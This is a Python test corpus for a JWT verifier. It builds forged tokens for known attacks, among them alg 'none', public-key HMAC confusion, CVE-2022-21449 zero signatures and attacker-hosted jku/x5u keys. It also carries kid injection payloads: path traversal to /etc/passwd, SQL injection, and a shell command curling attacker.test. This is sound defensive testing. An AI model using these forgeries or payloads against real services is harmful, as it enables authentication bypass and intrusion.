"""The attack corpus: every known JWT trick, built for real, as named token builders.

Each :class:`Attack` turns a :class:`Forge` — what an attacker (or a careless
insider) holds against one issuer — into the Bearer token to throw at a verifier.
The same corpus runs against the auth server's protected routes and against every
guard adapter; each attack must be answered ``401`` with :attr:`Attack.expect`.

Two kinds of builder:

* *outsider* attacks know only public things: the JWKS, the issuer, a genuine token
  issued to the attacker's own account. They forge headers, strip or bend
  signatures, sign with the public key as an HMAC secret, point ``jku``/``x5u`` at the
  attacker's server, embed their own keys.
* *insider* attacks are signed with the genuine private key (``Forge.sign``): a token
  minted by a sibling service that shares the key, for another issuer, audience or
  type, or with a header the verifier must refuse. They prove each rule holds on its
  own, not merely because the signature failed first.

Tokens are built by hand here — base64url, JSON, signatures from ``cryptography``
and joserfc's algorithm primitives — never through keyturn's issuer.
"""

from __future__ import annotations

import base64
import datetime
import hashlib
import hmac
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any, Final

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.x509.oid import NameOID
from joserfc import jwe, jws
from joserfc.jwk import ECKey, Key, OctKey, import_key

__all__ = ["ATTACKS", "Attack", "Forge", "attacker_key", "b64", "compact"]

#: Signature sizes of ECDSA (each of r and s, in bytes) and the curve orders, for the psychic signature.
_EC_SIZES: Final = {"ES256": 32, "ES384": 48, "ES512": 66}
_EC_ORDERS: Final = {
    "ES256": int("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551", 16),
    "ES384": int(
        "FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973", 16
    ),
    "ES512": int(
        "01FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF"
        "A51868783BF2F966B7FCC0148F709A5D03BB5C9B8899C47AEBB6FB71E91386409",
        16,
    ),
}


def b64(data: bytes) -> str:
    """Unpadded base64url, as RFC 7515 §2 writes every segment."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _unb64(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def _json(value: Any) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


def compact(header: Mapping[str, Any] | bytes, payload: Mapping[str, Any] | bytes, signature: bytes | str) -> str:
    """A compact JWS from parts: mappings become JSON, bytes are taken as they are."""
    h = header if isinstance(header, bytes) else _json(header)
    p = payload if isinstance(payload, bytes) else _json(payload)
    sig = signature if isinstance(signature, str) else b64(signature)
    return f"{b64(h)}.{b64(p)}.{sig}"


def _signing_input(header: Mapping[str, Any] | bytes, payload: Mapping[str, Any] | bytes) -> bytes:
    return compact(header, payload, "").rsplit(".", 1)[0].encode("ascii")


def raw_sign(alg: str, key: Key, header: Mapping[str, Any] | bytes, payload: Mapping[str, Any] | bytes) -> str:
    """Sign with joserfc's primitive for ``alg``, whatever the header says (no header checks)."""
    signature = jws.JWSRegistry.algorithms[alg].sign(_signing_input(header, payload), key)
    return compact(header, payload, signature)


@dataclass(frozen=True)
class AttackerKey:
    """The attacker's own P-256 key, its public JWK and a self-signed certificate for it."""

    key: ECKey
    public_jwk: dict[str, Any]
    kid: str
    certificate_der: bytes


def attacker_key() -> AttackerKey:
    """A fresh key pair and self-signed certificate, as an attacker would make them."""
    private = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "keyturn.test")])
    now = datetime.datetime.now(datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(private.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=30))
        .sign(private, hashes.SHA256())
    )
    key = ECKey.import_key(private)
    public = dict(key.as_dict(private=False))
    kid = key.thumbprint()
    public.update({"kid": kid, "alg": "ES256", "use": "sig"})
    return AttackerKey(key, public, kid, certificate.public_bytes(serialization.Encoding.DER))


@dataclass(frozen=True)
class Forge:
    """What an attack is built from.

    ``sign(header, payload)`` signs with the issuer's genuine private key under its
    pinned algorithm (the insider); everything else is public or the attacker's own.
    """

    issuer: str
    audience: str
    now: float
    jwks: Mapping[str, Any]
    genuine: str
    sign: Callable[[Mapping[str, Any] | bytes, Mapping[str, Any] | bytes], str]
    attacker_url: str
    attacker: AttackerKey = field(default_factory=attacker_key)

    @property
    def header(self) -> dict[str, Any]:
        """The genuine token's header."""
        value: dict[str, Any] = json.loads(_unb64(self.genuine.split(".")[0]))
        return value

    @property
    def claims(self) -> dict[str, Any]:
        """The genuine token's claims."""
        value: dict[str, Any] = json.loads(_unb64(self.genuine.split(".")[1]))
        return value

    @property
    def alg(self) -> str:
        return str(self.header["alg"])

    @property
    def kid(self) -> str:
        return str(self.header["kid"])

    @property
    def elevated(self) -> dict[str, Any]:
        """The genuine claims with the admin role added: what a forger wants."""
        return {**self.claims, "roles": ["admin", "user"], "scope": "admin"}

    def public_pem(self) -> bytes:
        """The issuer's published key as an SPKI PEM (the attacker's key in HMAC mode, which publishes none)."""
        published = self.jwks.get("keys") or [self.attacker.public_jwk]
        public = import_key(dict(published[0]))
        if isinstance(public, OctKey):
            raise TypeError("a JWK Set never publishes a symmetric key")
        pem: bytes = public.as_pem(private=False)
        return pem

    def public_jwk_json(self) -> bytes:
        published = self.jwks.get("keys") or [self.attacker.public_jwk]
        return json.dumps(published[0]).encode()

    def with_header(self, **changes: Any) -> dict[str, Any]:
        header = {**self.header, **changes}
        return {k: v for k, v in header.items() if v is not _DROP}

    def with_claims(self, **changes: Any) -> dict[str, Any]:
        claims = {**self.claims, **changes}
        return {k: v for k, v in claims.items() if v is not _DROP}


#: A sentinel for "remove this member" in :meth:`Forge.with_header` / :meth:`Forge.with_claims`.
_DROP: Final = object()

Builder = Callable[[Forge], str]


@dataclass(frozen=True)
class Attack:
    """One named attack; ``expect`` is the contract code it must be answered with."""

    name: str
    build: Builder
    expect: str = "TOKEN_INVALID"
    #: The attack points the verifier at the attacker's server, which must never hear from it.
    lures: bool = False


def _hmac(alg: str, secret: bytes, header: Mapping[str, Any], payload: Mapping[str, Any]) -> str:
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    return compact(header, payload, hmac.new(secret, _signing_input(header, payload), digest).digest())


def _attacker_signed(f: Forge, header: Mapping[str, Any], payload: Mapping[str, Any] | None = None) -> str:
    return raw_sign("ES256", f.attacker.key, header, payload if payload is not None else f.elevated)


def _genuine_signature(f: Forge) -> str:
    return f.genuine.split(".")[2]


# --- alg none -----------------------------------------------------------------


def _none(casing: str, keep_signature: bool = False) -> Builder:
    def build(f: Forge) -> str:
        token = compact(f.with_header(alg=casing), f.elevated, "")
        return token + _genuine_signature(f) if keep_signature else token

    return build


# --- HMAC keyed with the public key (algorithm confusion) ------------------------


def _hmac_public(alg: str, material: str) -> Builder:
    def build(f: Forge) -> str:
        pem = f.public_pem()
        secret = {
            "pem": pem,
            "pem-no-newline": pem.rstrip(b"\n"),
            "der": serialization.load_pem_public_key(pem).public_bytes(
                serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
            ),
            "jwk": f.public_jwk_json(),
            "empty": b"",
        }[material]
        return _hmac(alg, secret, f.with_header(alg=alg), f.elevated)

    return build


# --- ECDSA ------------------------------------------------------------------------


def _ec_alg(f: Forge) -> str:
    return f.alg if f.alg in _EC_SIZES else "ES256"


def _psychic(value: str) -> Builder:
    """CVE-2022-21449: r = s = 0 (or r = s = n) verified as valid by broken ECDSA code."""

    def build(f: Forge) -> str:
        alg = _ec_alg(f)
        size = _EC_SIZES[alg]
        number = 0 if value == "zero" else _EC_ORDERS[alg]
        raw = number.to_bytes(size, "big") * 2
        return compact(f.with_header(alg=alg), f.elevated, raw)

    return build


def _der_signature(f: Forge) -> str:
    """A genuine ECDSA signature re-encoded as DER: RFC 7518 §3.4 allows only raw r || s."""
    raw = _unb64(_genuine_signature(f))
    if f.alg in _EC_SIZES:
        size = _EC_SIZES[f.alg]
        der = encode_dss_signature(int.from_bytes(raw[:size], "big"), int.from_bytes(raw[size:], "big"))
    else:
        der = b"\x30\x82" + len(raw).to_bytes(2, "big") + raw
    head, payload, _ = f.genuine.split(".")
    return f"{head}.{payload}.{b64(der)}"


def _bit_flip(f: Forge) -> str:
    """A genuine signature with one bit of its last byte flipped."""
    raw = _unb64(_genuine_signature(f))
    head, payload, _ = f.genuine.split(".")
    return f"{head}.{payload}.{b64(raw[:-1] + bytes([raw[-1] ^ 1]))}"


# --- signature and encoding tampering ----------------------------------------------


def _tamper_signature(how: str) -> Builder:
    def build(f: Forge) -> str:
        head, payload, sig = f.genuine.split(".")
        return {
            "stripped": f"{head}.{payload}.",
            "stripped-no-dot": f"{head}.{payload}",
            "padded": f"{head}.{payload}.{sig}==",
            "one-pad": f"{head}.{payload}.{sig}=",
            "standard-alphabet": f"{head}.{payload}.{sig.replace('-', '+').replace('_', '/')}+/",
            "trailing-garbage": f"{head}.{payload}.{sig}AA",
            "truncated": f"{head}.{payload}.{sig[:-4]}",
            "whitespace": f"{head}.{payload}.{sig[:10]} {sig[10:]}",
            "non-canonical-tail": f"{head}.{payload}.{_non_canonical(sig)}",
        }[how]

    return build


def _non_canonical(sig: str) -> str:
    """The same bytes to a lenient decoder, but unused low bits set in the last character."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    if len(sig) % 4 in (2, 3):
        return sig[:-1] + alphabet[alphabet.index(sig[-1]) + 1]
    return sig[:-1] + ("B" if sig[-1] != "B" else "C")


def _tampered_payload(f: Forge) -> str:
    head, _, sig = f.genuine.split(".")
    return f"{head}.{b64(_json(f.elevated))}.{sig}"


def _tampered_header(f: Forge) -> str:
    _, payload, sig = f.genuine.split(".")
    return f"{b64(_json(f.with_header(typ='JWT')))}.{payload}.{sig}"


def _padded_header(f: Forge) -> str:
    head, payload, sig = f.genuine.split(".")
    return f"{head}{'=' * (-len(head) % 4) or '='}.{payload}.{sig}"


# --- keys chosen by the token (RFC 8725 §3.10) --------------------------------------


def _embedded_jwk(kid: str) -> Builder:
    def build(f: Forge) -> str:
        header: dict[str, Any] = {"alg": "ES256", "typ": "at+jwt", "kid": f.kid if kid == "genuine" else f.attacker.kid}
        header["jwk"] = f.attacker.public_jwk
        return _attacker_signed(f, header)

    return build


def _jku(member: str, kid: str) -> Builder:
    def build(f: Forge) -> str:
        url = f"{f.attacker_url}/jwks.json" if member == "jku" else f"{f.attacker_url}/cert.pem"
        header = {"alg": "ES256", "typ": "at+jwt", "kid": f.kid if kid == "genuine" else f.attacker.kid, member: url}
        return _attacker_signed(f, header)

    return build


def _x5c(f: Forge) -> str:
    header = {
        "alg": "ES256",
        "typ": "at+jwt",
        "kid": f.attacker.kid,
        "x5c": [base64.b64encode(f.attacker.certificate_der).decode()],
    }
    return _attacker_signed(f, header)


def _insider_header(**members: Any) -> Builder:
    """A genuinely signed token whose header carries a member the verifier must refuse."""

    def build(f: Forge) -> str:
        values = {k: (v(f) if callable(v) else v) for k, v in members.items()}
        return f.sign(f.with_header(**values), f.claims)

    return build


# --- kid injection ----------------------------------------------------------------


def _kid(value: Any, *, hmac_empty: bool = False) -> Builder:
    def build(f: Forge) -> str:
        if hmac_empty:
            return _hmac("HS256", b"", f.with_header(alg="HS256", kid=value), f.elevated)
        return f.sign(f.with_header(kid=value), f.claims)

    return build


# --- claims signed with the genuine key --------------------------------------------


def _insider_claims(**changes: Any) -> Builder:
    def build(f: Forge) -> str:
        values = {k: (v(f) if callable(v) else v) for k, v in changes.items()}
        return f.sign(f.header, f.with_claims(**values))

    return build


def _insider_exp(literal: bytes) -> Builder:
    """The genuine claims, signed, with ``exp`` written as a JSON literal Python would not produce."""

    def build(f: Forge) -> str:
        return f.sign(f.header, _json(f.with_claims(exp="@exp@")).replace(b'"@exp@"', literal))

    return build


def _insider_payload(raw: bytes) -> Builder:
    def build(f: Forge) -> str:
        return f.sign(f.header, raw)

    return build


def _alg_swap(f: Forge) -> str:
    """The header names a sibling algorithm of the key's pinned one; the signature is genuine."""
    sibling = {
        "ES256": "ES384",
        "ES384": "ES256",
        "ES512": "ES256",
        "RS256": "PS256",
        "RS384": "RS256",
        "RS512": "RS256",
        "PS256": "RS256",
        "PS384": "PS256",
        "PS512": "PS256",
        "HS256": "HS512",
        "HS384": "HS256",
        "HS512": "HS256",
        "EdDSA": "Ed25519",
    }[f.alg]
    _, payload, sig = f.genuine.split(".")
    return f"{b64(_json(f.with_header(alg=sibling)))}.{payload}.{sig}"


# --- structure ----------------------------------------------------------------------


#: Python refuses to parse integers over 4,300 digits; a header must not turn that into a 500.
_HUGE_NUMBER_HEADER: Final = b'{"alg":' + b"9" * 5000 + b"}"


def _structure(how: str) -> Builder:
    def build(f: Forge) -> str:
        head, payload, sig = f.genuine.split(".")
        return {
            "two-parts": f"{head}.{payload}",
            "four-parts": f"{head}.{payload}.{sig}.{sig}",
            "six-parts": ".".join([head, payload, sig, head, payload, sig]),
            "empty-segments": "..",
            "non-ascii": f"{head}.{payload}.{sig}é",
            "header-not-json": f"{b64(b'not json')}.{payload}.{sig}",
            "header-array": f"{b64(b'[1,2,3]')}.{payload}.{sig}",
            "header-deep-nesting": f"{b64(b'[' * 3000)}.{payload}.{sig}",
            "huge-header-number": f"{b64(_HUGE_NUMBER_HEADER)}.{payload}.{sig}",
            "jws-json-serialization": json.dumps({"protected": head, "payload": payload, "signature": sig}),
        }[how]

    return build


def _oversized(f: Forge) -> str:
    """A genuinely signed token just over 8 KiB: refused unread (CONTRACT.md §3)."""
    return f.sign(f.header, f.with_claims(padding="x" * 6200))


def _wrapped(alg: str) -> Builder:
    """A genuine token inside a JWE the verifier holds no key for (or of an algorithm it never takes)."""

    def build(f: Forge) -> str:
        key = OctKey.generate_key(256)
        if alg == "dir":
            return jwe.encrypt_compact({"alg": "dir", "enc": "A256GCM", "cty": "JWT"}, f.genuine, key)
        registry = jwe.JWERegistry(algorithms=["A256KW", "A256GCM"])
        return jwe.encrypt_compact({"alg": "A256KW", "enc": "A256GCM", "cty": "JWT"}, f.genuine, key, registry=registry)

    return build


def _attacker_chosen(name: str) -> Any:
    return lambda f: f"{f.attacker_url}/{name}"


ATTACKS: Final[tuple[Attack, ...]] = (
    # alg "none", in every casing, with and without the old signature
    *(Attack(f"alg-{casing}", _none(casing)) for casing in ("none", "None", "NONE", "nOnE")),
    Attack("alg-none-keeping-signature", _none("none", keep_signature=True)),
    Attack("alg-none-without-kid", lambda f: compact({"alg": "none", "typ": "at+jwt"}, f.elevated, "")),
    Attack("alg-missing", lambda f: compact({"typ": "at+jwt", "kid": f.kid}, f.elevated, _genuine_signature(f))),
    Attack("alg-not-a-string", lambda f: compact(f.with_header(alg=["ES256"]), f.elevated, _genuine_signature(f))),
    # HMAC keyed with the public key (RFC 8725 §2.1)
    Attack("hs256-keyed-with-public-pem", _hmac_public("HS256", "pem")),
    Attack("hs256-keyed-with-public-pem-no-newline", _hmac_public("HS256", "pem-no-newline")),
    Attack("hs256-keyed-with-public-der", _hmac_public("HS256", "der")),
    Attack("hs256-keyed-with-public-jwk", _hmac_public("HS256", "jwk")),
    Attack("hs384-keyed-with-public-pem", _hmac_public("HS384", "pem")),
    Attack("hs512-keyed-with-public-jwk", _hmac_public("HS512", "jwk")),
    Attack("hs256-empty-secret", _hmac_public("HS256", "empty")),
    # ECDSA
    Attack("ecdsa-psychic-signature-zero", _psychic("zero")),
    Attack("ecdsa-psychic-signature-order", _psychic("order")),
    Attack("ecdsa-der-encoded-signature", _der_signature),
    Attack("signature-bit-flip", _bit_flip),
    # signature and encoding
    *(
        Attack(f"signature-{how}", _tamper_signature(how))
        for how in (
            "stripped",
            "stripped-no-dot",
            "padded",
            "one-pad",
            "standard-alphabet",
            "trailing-garbage",
            "truncated",
            "whitespace",
            "non-canonical-tail",
        )
    ),
    Attack("payload-tampered-keeping-signature", _tampered_payload),
    Attack("header-tampered-keeping-signature", _tampered_header),
    Attack("header-padded", _padded_header),
    Attack("alg-swapped-to-sibling", _alg_swap),
    # keys the token names itself: embedded, remote (never fetched), certificates
    Attack("embedded-jwk-attacker-kid", _embedded_jwk("attacker")),
    Attack("embedded-jwk-genuine-kid", _embedded_jwk("genuine")),
    Attack("jku-attacker-server", _jku("jku", "attacker"), lures=True),
    Attack("jku-attacker-server-genuine-kid", _jku("jku", "genuine"), lures=True),
    Attack("x5u-attacker-server", _jku("x5u", "attacker"), lures=True),
    Attack("x5c-self-signed-certificate", _x5c),
    Attack("jku-genuinely-signed", _insider_header(jku=_attacker_chosen("jwks.json")), lures=True),
    Attack("x5u-genuinely-signed", _insider_header(x5u=_attacker_chosen("cert.pem")), lures=True),
    Attack("jwk-genuinely-signed", _insider_header(jwk=lambda f: f.attacker.public_jwk)),
    Attack(
        "x5c-genuinely-signed",
        _insider_header(x5c=lambda f: [base64.b64encode(f.attacker.certificate_der).decode()]),
    ),
    # crit and other header members
    Attack("crit-unknown-extension", _insider_header(crit=["urn:attacker:ext"], **{"urn:attacker:ext": True})),
    Attack("crit-naming-exp", _insider_header(crit=["exp"], exp=9_999_999_999)),
    Attack("crit-b64-unencoded-payload", _insider_header(crit=["b64"], b64=False)),
    Attack("header-extra-member-cty", _insider_header(cty="JWT")),
    # kid injection
    Attack("kid-path-traversal", _kid("../../../../../../dev/null")),
    Attack("kid-absolute-path", _kid("/etc/passwd")),
    Attack("kid-dev-null-hmac-empty-secret", _kid("../../../../../../dev/null", hmac_empty=True)),
    Attack("kid-sql-injection", _kid("' OR '1'='1' --")),
    Attack("kid-sql-union", _kid("x' UNION SELECT 'AAAA' AS private_jwk --")),
    Attack("kid-shell-injection", _kid("$(curl attacker.test)|id;")),
    Attack("kid-huge", _kid("k" * 4000)),
    Attack("kid-just-over-limit", _kid("k" * 129)),
    Attack("kid-empty", _kid("")),
    Attack("kid-nul-byte", _kid("kid\u0000")),
    Attack("kid-number", _kid(12345)),
    Attack("kid-null", _kid(None)),
    Attack("kid-list", _kid(["a", "b"])),
    Attack("kid-unknown-well-formed", _kid("attacker-kid-0000")),
    Attack("kid-missing", lambda f: f.sign(f.with_header(kid=_DROP), f.claims)),
    # typ
    Attack("typ-jwt", _insider_header(typ="JWT")),
    Attack("typ-id-token", _insider_header(typ="id_token+jwt")),
    Attack("typ-application-jwt", _insider_header(typ="application/jwt")),
    Attack("typ-with-parameters", _insider_header(typ="at+jwt; charset=utf-8")),
    Attack("typ-missing", _insider_header(typ=_DROP)),
    Attack("typ-not-a-string", _insider_header(typ=["at+jwt"])),
    # issuer and audience: tokens of another issuer or service sharing the key
    Attack("iss-other-issuer-same-key", _insider_claims(iss="https://evil.example")),
    Attack("iss-trailing-slash", _insider_claims(iss=lambda f: f.issuer + "/")),
    Attack("iss-as-list", _insider_claims(iss=lambda f: [f.issuer])),
    Attack("iss-missing", _insider_claims(iss=_DROP)),
    Attack("aud-other-service", _insider_claims(aud="another-api")),
    Attack("aud-list-without-us", _insider_claims(aud=["another-api", "third-api"])),
    Attack("aud-missing", _insider_claims(aud=_DROP)),
    Attack("aud-null", _insider_claims(aud=None)),
    # time
    Attack(
        "expired", _insider_claims(exp=lambda f: int(f.now) - 3600, iat=lambda f: int(f.now) - 4500), "TOKEN_EXPIRED"
    ),
    Attack("nbf-in-the-future", _insider_claims(nbf=lambda f: int(f.now) + 3600)),
    Attack("iat-in-the-future", _insider_claims(iat=lambda f: int(f.now) + 3600)),
    Attack("exp-missing", _insider_claims(exp=_DROP)),
    Attack("exp-as-string", _insider_claims(exp=lambda f: str(int(f.now) + 600))),
    Attack("exp-as-boolean", _insider_claims(exp=True)),
    Attack("exp-null", _insider_claims(exp=None)),
    Attack("iat-missing", _insider_claims(iat=_DROP)),
    Attack("exp-nan", _insider_exp(b"NaN")),
    Attack("exp-infinity", _insider_exp(b"Infinity")),
    Attack("exp-overflowing-float", _insider_exp(b"1e400")),
    Attack("exp-huge-integer", _insider_exp(b"9" * 400)),
    # subject and id
    Attack("sub-missing", _insider_claims(sub=_DROP)),
    Attack("sub-empty", _insider_claims(sub="")),
    Attack("sub-number", _insider_claims(sub=42)),
    Attack("jti-missing", _insider_claims(jti=_DROP)),
    # payload
    Attack("payload-not-json", _insider_payload(b"hello")),
    Attack("payload-json-array", _insider_payload(b'["iss","sub"]')),
    Attack("payload-deep-nesting", _insider_payload(b"[" * 3000)),
    # structure and size
    *(
        Attack(f"structure-{how}", _structure(how))
        for how in (
            "two-parts",
            "four-parts",
            "six-parts",
            "empty-segments",
            "non-ascii",
            "header-not-json",
            "header-array",
            "header-deep-nesting",
            "huge-header-number",
            "jws-json-serialization",
        )
    ),
    Attack("oversized-genuinely-signed", _oversized),
    Attack("jwe-wrapped-unknown-key", _wrapped("dir")),
    Attack("jwe-wrapped-key-wrapping-alg", _wrapped("A256KW")),
)
